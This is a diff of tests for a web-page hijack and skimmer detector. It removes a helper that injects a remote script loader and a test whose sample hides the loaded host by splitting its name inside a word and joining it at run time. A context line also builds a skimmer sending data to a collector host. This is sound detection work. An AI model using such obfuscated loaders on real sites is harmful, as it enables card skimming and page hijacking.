@@ -58,23 +58,3 @@ def test_a_page_wide_sender_to_a_host_the_page_links_is_clean():
     a = clean_page(_page(_skimmer(f'"{COLLECTOR}"'), links='<a href="https://www.cardsafe-stats.org/">统计平台</a>'),
                    url=URL)
     assert not a.hijacked
-
-
-# A created load of a host whose name the code cuts inside a word and joins at run time (v45 B2).
-GA = "gam.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';"
-
-
-def _loader(src: str, pre: str = "") -> str:
-    return (f"<script>{pre}var gam=document.createElement('script');gam.async=true;{src}"
-            "var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(gam,s);</script>")
-
-
-def test_a_load_of_a_host_cut_inside_a_word_is_spam():
-    a = clean_page(_page(_loader(GA + "gam.src='http://www.ravensol'+goo+'/?cart_id=37';", "var goo='monetra.com';")),
-                   url=URL)
-    assert a.hijacked and any("ravensolmonetra.com" in f.evidence for f in a.findings)
-
-
-def test_a_vendor_host_built_at_its_labels_is_clean():
-    a = clean_page(_page(_loader(GA)), url=URL)
-    assert not a.hijacked
